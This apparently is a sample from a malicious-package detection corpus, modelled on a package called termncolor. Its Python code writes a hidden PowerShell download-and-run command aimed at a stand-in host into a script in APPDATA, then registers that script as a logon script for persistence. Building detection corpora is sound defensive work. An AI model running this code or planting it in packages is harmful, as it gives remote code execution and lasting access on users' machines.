# pkgguard corpus 185 (persistence), modelled on [termncolor]; inert, never run.
import os
import subprocess

script = os.path.join(os.environ["APPDATA"], "upd.cmd")
with open(script, "w") as f:
    f.write("@powershell -w hidden -c \"iwr https://cdn.example/l.ps1 | iex\"\n")
subprocess.run(["reg", "add", r"HKCU\Environment", "/v", "UserInitMprLogonScript", "/d", script, "/f"])
